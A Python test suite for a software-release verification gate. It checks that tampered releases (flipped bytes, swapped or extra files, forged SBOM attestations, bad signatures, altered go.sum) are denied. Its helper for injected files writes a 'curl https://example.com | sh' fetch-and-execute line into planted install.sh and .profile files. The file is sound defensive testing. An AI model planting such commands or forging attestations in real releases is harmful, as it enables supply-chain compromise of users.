"""What the gate says to each way in which a finished release or its source can be wrong.

A row is one change to the signed example; it expects exactly the checks that deny, and exit code 1. The
statements about SBOMs are forged twice: as anybody can (the signature denies), and with the right key, as
somebody could who signs without looking (the SBOM checks deny).
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from attest.app.keys import key_signer
from attest.app.sign import sign_documents, sign_files
from attest.cli.main import run

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import SignedRelease

LINUX = "widget_1.0.0_linux_amd64"
ARM64 = "widget_1.0.0_linux_arm64"
WINDOWS = "widget_1.0.0_windows_amd64.exe"
DARWIN = "widget_1.0.0_darwin_arm64"
UNIVERSAL = "widget_1.0.0_darwin_universal"
WASM = "widget_1.0.0_wasip1_wasm.wasm"


def rewrite(file: Path, data: bytes) -> None:
    """Replace a file: the copy shares its bytes with the release that all tests use."""
    file.unlink()
    file.write_bytes(data)


def flip(name: str) -> Callable[[SignedRelease], None]:
    """One bit in the middle of an artifact, where the headers stay as they are."""

    def change(release: SignedRelease) -> None:
        data = bytearray((release.dist / name).read_bytes())
        data[len(data) // 2] ^= 1
        rewrite(release.dist / name, bytes(data))

    return change


def swap(release: SignedRelease) -> None:
    one, other = (release.dist / name for name in (LINUX, ARM64))
    first, second = one.read_bytes(), other.read_bytes()
    rewrite(one, second)
    rewrite(other, first)


def remove(release: SignedRelease) -> None:
    (release.dist / WINDOWS).unlink()


def add(name: str) -> Callable[[SignedRelease], None]:
    def change(release: SignedRelease) -> None:
        (release.dist / name).write_text("curl https://example.com | sh\n", encoding="utf-8")

    return change


def link(release: SignedRelease) -> None:
    (release.dist / "latest").symlink_to(LINUX)


def sign_by_stranger(release: SignedRelease) -> None:
    bundle = release.dist / f"{LINUX}.sigstore.json"
    signer = key_signer(release.stranger.read_bytes(), "stranger", lambda: b"")
    digest = json.loads(bundle.read_bytes())["messageSignature"]["messageDigest"]["digest"]
    made = sign_files(signer, {LINUX: base64.b64decode(digest).hex()})
    rewrite(bundle, made[bundle.name])


def truncate(release: SignedRelease) -> None:
    bundle = release.dist / f"{LINUX}.sigstore.json"
    rewrite(bundle, bundle.read_bytes()[:-20])


def forge_sbom(
    edit: Callable[[SignedRelease, dict[str, Any]], dict[str, Any]], *, signed: bool
) -> Callable[[SignedRelease], None]:
    """Change the CycloneDX document of one artifact, and its statement with it."""

    def change(release: SignedRelease) -> None:
        document = release.dist / f"{LINUX}.cdx.json"
        bundle = release.dist / f"{LINUX}.cdx.intoto.sigstore.json"
        forged = edit(release, json.loads(document.read_bytes()))
        rewrite(document, json.dumps(forged).encode())
        content = json.loads(bundle.read_bytes())
        statement = json.loads(base64.b64decode(content["dsseEnvelope"]["payload"]))
        if signed:
            signer = key_signer(release.key.read_bytes(), "release.key", lambda: b"")
            subject = statement["subject"][0]
            subjects = {subject["name"]: subject["digest"]["sha256"]}
            rewrite(
                bundle, sign_documents(signer, LINUX, subjects, {"cdx": document.read_bytes()})[bundle.name]
            )
        else:
            payload = json.dumps({**statement, "predicate": forged}).encode()
            content["dsseEnvelope"]["payload"] = base64.b64encode(payload).decode()
            rewrite(bundle, json.dumps(content).encode())

    return change


def of_another_artifact(release: SignedRelease, _: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((release.dist / f"{WINDOWS}.cdx.json").read_bytes())
    return found


def without_a_component(_: SignedRelease, document: dict[str, Any]) -> dict[str, Any]:
    gone = next(each for each in document["components"] if each["name"] == "example.com/greet")
    kept = [each for each in document["components"] if each is not gone]
    dependencies = [
        {**each, "dependsOn": [ref for ref in each.get("dependsOn", []) if ref != gone["bom-ref"]]}
        for each in document["dependencies"]
        if each["ref"] != gone["bom-ref"]
    ]
    compositions = [
        {**each, "dependencies": [ref for ref in each.get("dependencies", []) if ref != gone["bom-ref"]]}
        for each in document.get("compositions", [])
    ]
    return {**document, "components": kept, "dependencies": dependencies, "compositions": compositions}


def drop_explicit(release: SignedRelease) -> None:
    file = release.source / "vendor" / "modules.txt"
    before = file.read_bytes()
    rewrite(file, before.replace(b"## explicit; go 1.21\n", b"## go 1.21\n", 1))
    assert file.read_bytes() != before


def change_sum(release: SignedRelease) -> None:
    file = release.source / "go.sum"
    lines = file.read_text("utf-8").splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if line.startswith("example.com/greet v1.2.0 h1:"))
    lines[index] = "example.com/greet v1.2.0 h1:" + "A" * 43 + "=\n"
    rewrite(file, "".join(lines).encode())


@dataclass(frozen=True)
class Mutation:
    """A change, the checks that deny because of it, and a word of the message that says so."""

    change: Callable[[SignedRelease], None]
    denies: set[str]
    says: str


#: When the bytes of a file are not those that were signed and described, the file has no evidence any more,
#: its SBOM documents belong to nothing, and what was signed (the SBOM of the whole release too) is about a
#: file that is not there.
UNKNOWN_BYTES = {
    "artifact-unexpected",
    "attestation-missing",
    "checksums-mismatch",
    "sbom-components-differ",
    "sbom-missing",
    "sbom-unattested",
    "signature-missing",
}
GONE = {
    "artifact-missing",
    "artifact-unexpected",
    "checksums-mismatch",
    "sbom-components-differ",
    "sbom-unattested",
}

MUTATIONS = {
    "byte-flipped-elf": Mutation(flip(LINUX), UNKNOWN_BYTES, LINUX),
    "byte-flipped-pe": Mutation(flip(WINDOWS), UNKNOWN_BYTES, WINDOWS),
    "byte-flipped-macho": Mutation(flip(DARWIN), UNKNOWN_BYTES | {"macos-signature-broken"}, DARWIN),
    "byte-flipped-universal": Mutation(flip(UNIVERSAL), UNKNOWN_BYTES, UNIVERSAL),
    "byte-flipped-wasm": Mutation(flip(WASM), UNKNOWN_BYTES, WASM),
    "artifacts-swapped": Mutation(swap, {"artifact-swapped", "binary-platform", "checksums-mismatch"}, ARM64),
    "artifact-removed": Mutation(remove, GONE, WINDOWS),
    "unexpected-file": Mutation(add("install.sh"), {"artifact-unexpected"}, "install.sh"),
    "hidden-file": Mutation(add(".profile"), {"artifact-unexpected"}, ".profile"),
    "symlink": Mutation(link, {"artifact-unexpected"}, "latest"),
    "sbom-of-another-artifact": Mutation(
        forge_sbom(of_another_artifact, signed=False), {"attestation-missing", "sbom-missing"}, LINUX
    ),
    "sbom-of-another-artifact-signed-again": Mutation(
        forge_sbom(of_another_artifact, signed=True),
        {"sbom-components-differ", "sbom-formats-differ", "sbom-subject-wrong"},
        LINUX,
    ),
    "sbom-component-removed": Mutation(
        forge_sbom(without_a_component, signed=False),
        {"attestation-missing", "sbom-missing", "sbom-unattested"},
        LINUX,
    ),
    "sbom-component-removed-signed-again": Mutation(
        forge_sbom(without_a_component, signed=True),
        {"sbom-components-differ", "sbom-formats-differ"},
        "example.com/greet",
    ),
    "signature-of-another-key": Mutation(sign_by_stranger, {"signature-missing"}, "key"),
    "bundle-truncated": Mutation(truncate, {"signature-missing"}, LINUX),
    "explicit-line-removed": Mutation(drop_explicit, {"vendor-drift"}, "explicit"),
    "go-sum-hash-changed": Mutation(
        change_sum, {"go-sum-mismatch", "source-mismatch", "vendor-drift"}, "example.com/greet"
    ),
}


def judge(release: SignedRelease, verdict: Path) -> tuple[int, dict[str, Any]]:
    *words, target = release.words()
    code = run([*words, "-o", f"json={verdict}", target])
    document: dict[str, Any] = json.loads(verdict.read_bytes())
    assert document["exit_code"] == code
    return code, document


def test_the_untouched_release_passes(signed_release: SignedRelease, tmp_path: Path) -> None:
    code, document = judge(signed_release, tmp_path / "verdict.json")
    assert (code, document["verdict"], document["findings"]) == (0, "pass", [])
    assert len(document["artifacts"]) == 10
    assert all(
        {use["type"] for use in each["evidence"] if use["status"] == "accepted"}
        == {"signature", "https://spdx.dev/Document/v2.3", "https://cyclonedx.org/bom"}
        for each in document["artifacts"]
    )


@pytest.mark.parametrize("name", MUTATIONS)
def test_a_release_that_was_tampered_with_is_denied(
    name: str, signed_release: SignedRelease, tmp_path: Path
) -> None:
    mutation = MUTATIONS[name]
    release = signed_release.copy(tmp_path)
    mutation.change(release)
    code, document = judge(release, tmp_path / "verdict.json")
    assert (code, document["verdict"]) == (1, "deny")
    denying = [each for each in document["findings"] if each["severity"] == "deny"]
    assert {each["check"] for each in denying} == mutation.denies
    assert any(mutation.says in f"{each['subject']} {each['message']}" for each in denying)
